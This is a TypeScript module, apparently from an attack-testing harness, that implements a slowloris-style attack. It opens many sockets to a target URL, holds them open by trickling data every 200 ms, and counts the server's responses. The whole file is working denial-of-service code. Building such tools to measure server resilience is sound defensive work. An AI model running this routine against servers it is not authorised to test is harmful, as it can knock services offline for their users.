import { connect, type Socket } from 'node:net';
import { setTimeout } from 'node:timers/promises';
import type { ConnectionAttack } from './attack.ts';
import type { AttackerOrder, AttackerReport } from './orders.ts';

const againMs = 200;

/** Opens connections and keeps them, each as slow as it can be. */
export async function holdConnections(
  { connections, first, again }: ConnectionAttack,
  { url, seconds, one }: AttackerOrder,
): Promise<Omit<AttackerReport, 'cpuMs'>> {
  const { hostname, port, host } = new URL(url);
  const outcomes: Record<string, number> = {};
  const count = (outcome: string) => {
    outcomes[outcome] = (outcomes[outcome] ?? 0) + 1;
  };
  const until = performance.now() + seconds * 1000;
  const sockets: Socket[] = [];
  for (let opened = 0; opened < connections; opened += 1) {
    const socket = connect(Number(port), hostname, () => socket.write(first(host, one)));
    socket.on('data', (answer) => count(/^HTTP\/1.1 (\d+)/.exec(String(answer))?.[1] ?? 'something'));
    socket.on('error', () => {});
    socket.on('close', () => {
      if (performance.now() < until) count('connection closed');
    });
    sockets.push(socket);
    // Opened over the first tenth of the time.
    if (opened % 50 === 49) await setTimeout((seconds * 100 * 50) / connections);
  }
  while (performance.now() < until) {
    await setTimeout(againMs);
    if (again) for (const socket of sockets) if (socket.writable) socket.write(again);
  }
  count(`held open`);
  outcomes['held open'] = sockets.filter(({ destroyed }) => !destroyed).length;
  for (const socket of sockets) socket.destroy();
  return { outcomes, refusals: [] };
}
